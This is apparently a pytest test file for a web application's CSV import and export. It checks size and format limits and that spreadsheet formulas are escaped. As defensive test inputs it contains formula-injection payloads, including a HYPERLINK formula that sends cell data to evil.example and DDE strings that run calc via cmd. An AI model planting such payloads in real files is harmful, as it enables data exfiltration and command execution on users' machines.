"""CSV files in and out: exported cells never start a spreadsheet formula, formulas stay inert through an
export and an import, and imports refuse huge, wide or malformed files importing nothing.
"""
from __future__ import annotations

import csv
import io
import re

import pytest

from tests.documents import add_document, label_span
from tests.helpers import (
    csrf_token,
    default_project,
    new_project,
    sql,
)
from tests.people import SMITH_TEXT_A
from tests.web.helpers import add_label, add_rule

RULES_HEADER = "type,condition,decision,label,author\n"


LABELS_HEADER = "name,category,replacement\n"


def _upload(client, path: str, content: str | bytes):
    data = {"csrf_token": csrf_token(client, "/"), "file": (io.BytesIO(
        content.encode() if isinstance(content, str) else content), "import.csv")}
    return client.post(path, data=data, content_type="multipart/form-data")


def _errors(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    return re.findall(r"<li>(line \d+: .*?)</li>", response.get_data(as_text=True))


# --- CSV rule and label imports -----------------------------------------------------------------------------
def test_csv_imports_refuse_huge_rows_wide_rows_too_many_rows_and_wrong_columns_importing_nothing(admin_client,
                                                                                                  clean_app):
    pid = default_project(clean_app)
    rules, labels = f"/rules/{pid}/import", f"/labels/{pid}/import"
    cases = [
        (rules, RULES_HEADER + "WORD_TYPE,ok,PUBLIC,,\nWORD_TYPE," + "x" * 3_000_000 + ",PUBLIC,,\n",
         "line 3: malformed CSV (field larger than field limit"),
        (rules, RULES_HEADER + ",".join(["a"] * 100_000) + "\n", "line 2: expected 5 columns, found 100000"),
        (rules, RULES_HEADER + "".join(f"WORD_TYPE,w{i},PUBLIC,,\n" for i in range(100_001)),
         "more than 100000 rows; split the file"),
        (rules, "condition,type,decision,label,author\nPraha,WORD_TYPE,PUBLIC,,\n", "line 1: wrong header"),
        (rules, "type,condition\nWORD_TYPE,Praha\n", "line 1: wrong header"),
        (labels, LABELS_HEADER + "n" * 3_000_000 + ",,\n", "line 2: malformed CSV (field larger than field limit"),
        (labels, "replacement,name,category\nx,person,PERSON\n", "line 1: wrong header"),
        (labels, LABELS_HEADER + "person,PERSON,x,extra\n", "line 2:"),
    ]
    for path, content, message in cases:
        errors = _errors(_upload(admin_client, path, content))
        assert any(message in e for e in errors), (path, message, errors[:3])
    assert sql(clean_app, "SELECT count(*) AS n FROM rule") == [{"n": 0}]
    assert sql(clean_app, "SELECT count(*) AS n FROM label") == [{"n": 0}]


def test_csv_formulas_stay_inert_through_an_export_and_an_import(admin_client, clean_app, reannotations):
    """A condition, label name or replacement that a spreadsheet would run is exported with a leading quote and
    imported back as the same text (never a formula in the file, never a changed value in the project)."""
    pid = default_project(clean_app)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    label = add_label(clean_app, pid, "@SUM(1)", "PERSON", "=cmd|' /C calc'!A0")
    for condition in formulas:
        add_rule(clean_app, pid, condition, "PATTERN", confidence=-1, label_id=label)
    exported_rules = admin_client.get(f"/rules/{pid}/export.csv").get_data(as_text=True)
    exported_labels = admin_client.get(f"/labels/{pid}/export.csv").get_data(as_text=True)
    for text in (exported_rules, exported_labels):
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
            assert not any(cell[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
                           for cell in row), row  # a negative confidence is a number, not a formula
    target = new_project(clean_app, "Target")
    assert _upload(admin_client, f"/labels/{target}/import", exported_labels).status_code == 302
    assert _upload(admin_client, f"/rules/{target}/import", exported_rules).status_code == 302
    same = "SELECT type::text AS type, condition, confidence FROM rule WHERE project_id = %s ORDER BY condition"
    assert sql(clean_app, same, (target,)) == sql(clean_app, same, (pid,))
    assert sql(clean_app, "SELECT name, replacement FROM label WHERE project_id = %s", (target,)) == [
        {"name": "@SUM(1)", "replacement": "=cmd|' /C calc'!A0"}]


# --- CSV formula injection ----------------------------------------------------------------------------------
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


EVIL_CELLS = (EVIL, "+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\rx")


def _csv_rows(response) -> list[list[str]]:
    import csv
    import io
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.headers["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def _assert_no_formula(rows: list[list[str]], must_contain: str = EVIL) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + must_contain in cells, cells
    for cell in cells:
        assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not cell[1:].replace(".", "")
                                                             .isdigit()), cell


@pytest.fixture()
def evil_project(clean_app):
    app = clean_app
    pid = new_project(app, "Evil project")
    doc = add_document(app, SMITH_TEXT_A, [("John Smith", "PERSON")], project_id=pid, name="a.txt")
    sql(app, "UPDATE rule SET confidence = -1 WHERE project_id = %s AND type = 'NE_TYPE'", (pid,))
    label = add_label(app, pid, EVIL, "PERSON", replacement="@SUM(1+1)")
    add_rule(app, pid, "+cmd", label_id=label)
    label_span(app, doc, "John", label)
    sql(app, "INSERT INTO decision_log (project_id, document_id, first_token, end_token, action, decision, "
             "label_name) VALUES (%s, %s, 0, 2, 'decide', 'PRIVATE', %s)", (pid, doc, EVIL))
    return {"pid": pid, "doc": doc}


def test_csv_injection_project_key(admin_client, evil_project):
    from psan.tool.release.key import parse_key
    response = admin_client.get(f"/documents/project/{evil_project['pid']}/key.csv?reason=audit+check")
    _assert_no_formula(_csv_rows(response))
    # the escaping is undone on reading: the key still restores the original
    key = parse_key(response.get_data(as_text=True), "csv")
    assert {e["label_name"] for entries in key.entries.values() for e in entries} >= {EVIL}


def test_csv_injection_labels_export(admin_client, evil_project):
    _assert_no_formula(_csv_rows(admin_client.get(f"/labels/{evil_project['pid']}/export.csv")))


def test_csv_injection_rules_export(admin_client, evil_project):
    _assert_no_formula(_csv_rows(admin_client.get(f"/rules/{evil_project['pid']}/export.csv")), "+cmd")


def test_csv_injection_history_export(admin_client, evil_project):
    _assert_no_formula(_csv_rows(admin_client.get(f"/documents/{evil_project['doc']}/history.csv")))


def test_csv_injection_tool_keys():
    import csv
    import io

    from psan.tool.formats.csvcell import escape_cell, unescape_cell
    from psan.tool.release.key import CSV_FIELDS, PseudonymKey, key_csv
    for value in (*EVIL_CELLS, "'=x", "''", "-1", "0.5", "plain"):
        assert unescape_cell(escape_cell(value)) == value
    entry = {"document": "1", "original_start": 0, "original_end": 4, "original_text": "=1+1", "category": "PERSON",
             "label": 1, "label_name": EVIL, "replacement": "@x", "output_start": 0, "output_end": 2,
             "source": "label"}
    text = key_csv([entry])
    _assert_no_formula([list(r) for r in csv.reader(io.StringIO(text, newline=""))][1:])
    assert set(CSV_FIELDS) >= {"label_name", "original_text"}
    key = PseudonymKey([{k: entry.get(k) for k in entry}])
    written = key.to_csv()
    _assert_no_formula([list(r) for r in csv.reader(io.StringIO(written, newline=""))][1:], "=1+1")
    assert PseudonymKey.from_csv(written).entries[0]["original_text"] == "=1+1"
